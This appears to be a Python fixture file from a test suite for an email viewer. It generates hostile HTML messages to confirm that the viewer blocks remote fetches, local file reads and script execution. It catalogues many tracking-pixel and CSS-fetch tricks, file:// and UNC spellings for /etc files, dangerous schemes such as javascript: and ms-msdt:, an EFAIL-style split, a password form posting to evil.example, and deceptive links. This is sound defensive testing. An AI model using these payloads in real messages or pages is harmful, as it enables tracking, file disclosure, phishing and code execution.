"""F1 to F3: HTML that calls home, reads files, runs or leads astray. All of it is only text."""

from __future__ import annotations

from hostile.letter import PLEA, HostileLetter, html_letter, mixed, part

HOME = "http://127.0.0.1:{port}/seen"
FILE = "{marker}"

# Ways to name something that a viewer fetches by itself; {url} is that something.
WAYS = {
    "img": '<img src="{url}">',
    "img-srcset": '<img srcset="{url} 2x">',
    "img-lowsrc": '<img lowsrc="{url}" dynsrc="{url}">',
    "picture": '<picture><source srcset="{url}"></picture>',
    "image": '<image src="{url}">',
    "input-image": '<input type="image" src="{url}">',
    "background": (
        '<body background="{url}"><table background="{url}"><tr><td background="{url}">x'
    ),
    "style-url": '<div style="background:url({url})">x</div>',
    "style-quoted": "<div style=\"background-image:url('{url}')\">x</div>",
    "style-escaped": '<div style="background:\\75rl({url})">x</div>',
    "style-comment": '<div style="background:u/**/rl({url})">x</div>',
    "style-content": '<div style="content:url({url})">x</div>',
    "list-style": '<ul style="list-style-image:url({url})"><li>x</ul>',
    "cursor": '<div style="cursor:url({url}),auto">x</div>',
    "border-image": '<div style="border-image:url({url}) 3">x</div>',
    "css-import": "<style>@import url({url});</style>",
    "css-import-string": "<style>@import '{url}';</style>",
    "css-font": "<style>@font-face{{font-family:x;src:url({url})}} p{{font-family:x}}</style><p>x",
    "css-image-set": "<style>p{{background:image-set(url({url}) 1x)}}</style><p>x",
    "link-css": '<link rel="stylesheet" href="{url}">',
    "link-icon": '<link rel="icon" href="{url}">',
    "link-prefetch": (
        '<link rel="prefetch" href="{url}"><link rel="preload" as="image" href="{url}">'
    ),
    "link-dns": '<link rel="dns-prefetch" href="{url}"><link rel="preconnect" href="{url}">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={url}">',
    "base": '<base href="{url}"><img src="x.png">',
    "iframe": '<iframe src="{url}"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<img src='{url}'>\"></iframe>",
    "frameset": '<frameset><frame src="{url}"></frameset>',
    "object": '<object data="{url}"></object>',
    "embed": '<embed src="{url}">',
    "applet": '<applet codebase="{url}" archive="{url}"></applet>',
    "audio": '<audio autoplay src="{url}"></audio>',
    "video-poster": (
        '<video autoplay poster="{url}"><source src="{url}"><track src="{url}"></video>'
    ),
    "bgsound": '<bgsound src="{url}">',
    "svg-image": '<svg><image href="{url}" xlink:href="{url}"/></svg>',
    "svg-use": '<svg><use href="{url}#x"/></svg>',
    "svg-feimage": '<svg><filter><feImage href="{url}"/></filter></svg>',
    "math": '<math><mi xlink:href="{url}">x</mi></math>',
    "form-auto": (
        '<form action="{url}"><input autofocus></form><script>document.forms[0].submit()</script>'
    ),
    "script-src": '<script src="{url}"></script>',
    "import-map": '<script type="module">import "{url}"</script>',
    "ping": '<a href="https://x.example" ping="{url}">x</a>',
    "manifest": '<html manifest="{url}">x',
    "conditional-comment": '<!--[if mso]><img src="{url}"><![endif]-->',
    "vml": '<v:rect><v:fill src="{url}"/></v:rect>',
    "xml-stylesheet": '<?xml-stylesheet href="{url}"?>',
    "doctype": '<!DOCTYPE html SYSTEM "{url}"><p>x',
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><p>&e;',
    "split-tag": '<img\nsrc\n=\n"{url}"\n>',
    "unclosed-quote": "<img src='{url}?",
    "upper-case": '<IMG SRC="{url}">',
    "nul-in-tag": '<i\x00mg src="{url}"><img\x00 src="{url}">',
    "noscript": '<noscript><img src="{url}"></noscript>',
    "template": '<template><img src="{url}"></template>',
    "comment-trick": '<!--><img src="{url}">-->',
    "double-angle": '<<img src="{url}">',
}

FILES = {
    "absolute-path": "{marker}",
    "file-url": "file://{marker}",
    "file-url-host": "file://localhost{marker}",
    "relative-path": "{relative}",
    "percent": "file://{percent}",
    "upper-scheme": "FILE://{marker}",
    "qrc": "qrc:/qt-project.org/styles/commonstyle/images/up-32.png",
    "unc": "//127.0.0.1/share/seen.png",
    "unc-backslash": "\\\\127.0.0.1\\share\\seen.png",
}

SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "smb://evil.example/x",
    "ms-word:ofe|u|http://evil.example/x.doc",
    "ms-msdt:/id",
    "search-ms:query=x",
    "ldap://evil",
    "tel:+19005550100",
    "view-source:http://evil.example",
    "intent://evil#Intent;end",
    "mailto:boss@shop.example?attach=/etc/passwd&bcc=evil@evil.example",
)


def calling_home(url: str) -> dict[str, str]:
    """Every way to fetch `url`, by its name."""
    return {name: way.format(url=url) for name, way in WAYS.items()}


def reading_files(marker: str, relative: str) -> dict[str, str]:
    """Letters that name a file by every spelling of its place."""
    percent = "".join(f"%{byte:02x}" if byte != ord("/") else "/" for byte in marker.encode())
    found = {}
    for name, spelling in FILES.items():
        place = spelling.format(marker=marker, relative=relative, percent=percent)
        found[name] = (
            f'<img src="{place}"><style>@import "{place}";</style>'
            f'<div style="background:url({place})">'
        )
    return found


_EFAIL = mixed(
    [
        part('<img src="http://127.0.0.1:9/', "text/html"),
        part(f"secret of another letter {PLEA}", "text/plain"),
        part('">', "text/html"),
    ]
)
_DEAD_END = "http://127.0.0.1:9/seen"
SHOWN = (
    *(
        HostileLetter(f"f1-{name}", html_letter(f"<p>{PLEA}</p>{markup}"), says=(PLEA,))
        for name, markup in calling_home(_DEAD_END).items()
    ),
    HostileLetter("f1-efail-split", _EFAIL, says=("secret of another letter",)),
    HostileLetter(
        "f1-plain-part-with-markup",
        mixed([part(f'{PLEA} <img src="{_DEAD_END}">')]),
        says=("<img src=",),
    ),
    *(
        HostileLetter(f"f2-{name}", html_letter(f"<p>{PLEA}</p>{markup}"), says=(PLEA,))
        for name, markup in reading_files("/etc/hostname", "../../../etc/hostname").items()
    ),
    HostileLetter(
        "f2-subject-with-markup",
        html_letter(f"<p>{PLEA}", Subject='<img src="file:///etc/hostname"><b>x</b>'),
        subject='<img src="file:///etc/hostname"><b>x</b>',
    ),
    HostileLetter(
        "f2-name-with-markup",
        html_letter(f"<p>{PLEA}", From='"<img src=file:///etc/hostname>" <jane@mail.example>'),
        sender="jane@mail.example",
    ),
    HostileLetter(
        "f2-file-name-with-markup",
        mixed(
            [
                part(PLEA),
                part(
                    "x",
                    "image/png",
                    "Content-Disposition: attachment; "
                    'filename="<img src=file:///etc/hostname>.png"',
                ),
            ]
        ),
    ),
    *(
        HostileLetter(
            f"f3-scheme-{place}",
            html_letter(f'<a href="{scheme}">{PLEA}</a>'),
            says=(PLEA,),
            hides=("alert(1)", "passwd", "msgbox"),
        )
        for place, scheme in enumerate(SCHEMES)
    ),
    HostileLetter(
        "f3-script",
        html_letter(f"<script>alert('{PLEA}')</script><p>Hello"),
        says=("Hello",),
        hides=("alert",),
    ),
    HostileLetter(
        "f3-handlers",
        html_letter(f'<p onclick="evil()" onerror="evil()">{PLEA}'),
        says=(PLEA,),
        hides=("evil()",),
    ),
    HostileLetter(
        "f3-form",
        html_letter(
            f'<form action="https://evil.example"><input type="password" '
            f'value="secret"><button>Log in</button>{PLEA}</form>'
        ),
        says=(PLEA,),
        hides=("secret",),
    ),
    HostileLetter(
        "f3-link-that-lies",
        html_letter(f'<a href="https://evil.example/x">https://www.amazon.com</a> {PLEA}'),
        says=("https://www.amazon.com", "evil.example", PLEA),
    ),
    HostileLetter(
        "f3-link-with-name-before-host",
        html_letter('<a href="https://www.amazon.com@evil.example/">Amazon</a>'),
        says=("evil.example",),
    ),
)
